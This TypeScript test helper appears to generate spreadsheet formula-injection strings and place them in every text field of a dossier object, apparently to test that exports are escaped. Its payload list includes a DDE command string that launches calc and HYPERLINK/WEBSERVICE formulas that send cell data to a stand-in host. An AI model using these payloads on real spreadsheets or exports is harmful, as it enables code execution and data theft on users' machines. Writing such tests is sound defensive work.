import type { Dossier } from '#shared/dossier/schema.ts'

const openings = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=', '\n=', '\r\n=']
const payloads = [
  '1+1',
  `cmd|' /C calc'!A0`,
  'HYPERLINK("https://beacon.example/?"&A1;"open")',
  'WEBSERVICE("https://beacon.example/")',
  'SUM(A1:A9)',
]
/** What may stand before: nothing, what somebody might take for a shield, and what begins a cell for another separator. */
const before = [
  '',
  ' ',
  "'",
  "''",
  '"',
  '""',
  'a;',
  'a; ',
  'a;"',
  "a;'",
  'a\t',
  'a\n',
  'a\r\n',
  'a,',
  'a","',
  'a";"',
]

/** Texts that run as formulas or come near it, each with its number, so that no two are the same. */
export function* hostileCells(): Generator<string> {
  for (let n = 0; ; n += 1) {
    const [opening = '', payload = '', shield = ''] = [
      openings[n % openings.length],
      payloads[Math.floor(n / openings.length) % payloads.length],
      before[Math.floor(n / openings.length / payloads.length) % before.length],
    ]
    yield `${shield}${opening}${payload}+${n}`
  }
}

/** The dossier with every text of it replaced, whatever it is for: codes, references and ids too. */
export const withTexts = (dossier: Dossier, texts: Iterator<string>): Dossier =>
  replaced(dossier, texts) as Dossier // of the same shape: only what stands in its texts is another

/** What tables look for, and would only miss. */
const kept = new Set(['harm', 'role'])

function replaced(value: unknown, texts: Iterator<string>): unknown {
  if (typeof value === 'string') return texts.next().value
  if (Array.isArray(value)) return value.map((one) => replaced(one, texts))
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(
    Object.entries(value).map(([key, one]) => [key, kept.has(key) ? one : replaced(one, texts)]),
  )
}
